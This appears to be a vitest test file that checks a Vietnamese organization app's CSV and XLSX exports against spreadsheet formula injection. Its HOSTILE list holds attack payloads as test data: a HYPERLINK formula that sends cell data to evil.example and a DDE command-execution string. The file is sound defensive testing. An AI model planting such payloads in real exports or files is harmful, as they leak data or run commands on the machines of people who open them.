import JSZip from 'jszip';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { vnInstant } from '../../domain/time';
import { neutralizeFormula } from '../../functions/exports/formula-guard';
import type { Runtime } from '../../infra/local/runtime';
import { memberPledge, paths, setUpOrganization, startTestRuntime } from '../support/runtime';
import { download, readCsv } from './support';

/** Names as an attacker types them (issue 16): each would run as a formula if written verbatim into a cell. */
const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")', '+1+cmd|/C calc!A0', '-2+3', '@SUM(A1:A9)'];

describe('formula injection in the exports (OWASP CSV injection)', () => {
  let runtime: Runtime;
  const exportPath = (format: string) => paths.board(2021).replace('/registrations', `/exports/registrations?format=${format}`);

  beforeAll(async () => {
    runtime = await startTestRuntime(vnInstant(2021, 3, 10, 9));
    const { office } = await setUpOrganization(runtime);
    await office.put(paths.department('doc-hai'), { name: '=1+1 Phòng' });
    for (const [index, fullName] of HOSTILE.entries()) {
      await office.put(paths.member(`ke-xau-${index}`), { fullName, departmentId: 'doc-hai', position: '@Chuyên viên' });
    }
    await runtime.settle();
    await office.put(paths.pledge(2021, 'ke-xau-0'), memberPledge());
    await runtime.settle();
  });
  afterAll(() => runtime.stop());

  it('writes every text cell that starts with = + - @ with a leading apostrophe in the .csv, the rest as is', async () => {
    const file = await download(runtime, { role: 'office' }, exportPath('csv'));
    expect(file.status).toBe(200);
    const rows = await readCsv(file.bytes);
    const names = rows.filter((row) => row[0] === "'=1+1 Phòng" && row[1] === 'Cá nhân').map((row) => row[3]);
    expect(names.sort()).toEqual(HOSTILE.map((name) => `'${name}`).sort());
    expect(rows.filter((row) => row[1] === 'Cá nhân' && row[0] === "'=1+1 Phòng").every((row) => row[4] === "'@Chuyên viên")).toBe(true);
    // Nothing in the file starts a field with a formula character.
    const fields = new TextDecoder().decode(file.bytes).replace(/^\uFEFF/, '').split(/\r\n/).flatMap((line) => line.split(','));
    expect(fields.filter((field) => /^"?[=+\-@]/.test(field))).toEqual([]);
    // The ordinary rows are untouched.
    expect(rows.find((row) => row[3] === 'Nguyễn Văn A')?.slice(0, 2)).toEqual(['Phòng A', 'Cá nhân']);
  });

  it('keeps them as text in the .xlsx: shared strings, never a formula element', async () => {
    const file = await download(runtime, { role: 'office' }, exportPath('xlsx'));
    expect(file.status).toBe(200);
    const zip = await JSZip.loadAsync(file.bytes);
    const sheets = Object.keys(zip.files).filter((name) => /^xl\/worksheets\/sheet\d+\.xml$/.test(name));
    expect(sheets.length).toBeGreaterThan(0);
    for (const sheet of sheets) expect(await zip.file(sheet)!.async('string')).not.toMatch(/<f[ >]/);
    const strings = await zip.file('xl/sharedStrings.xml')!.async('string');
    expect(strings).toContain('@SUM(A1:A9)');
  });

  it('neutralizes exactly the formula starts OWASP lists, tab and carriage return included', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(neutralizeFormula(`${start}x`)).toBe(`'${start}x`);
    for (const safe of ['Nguyễn Văn A', 'a=b', '', "'quoted"]) expect(neutralizeFormula(safe)).toBe(safe);
  });
});
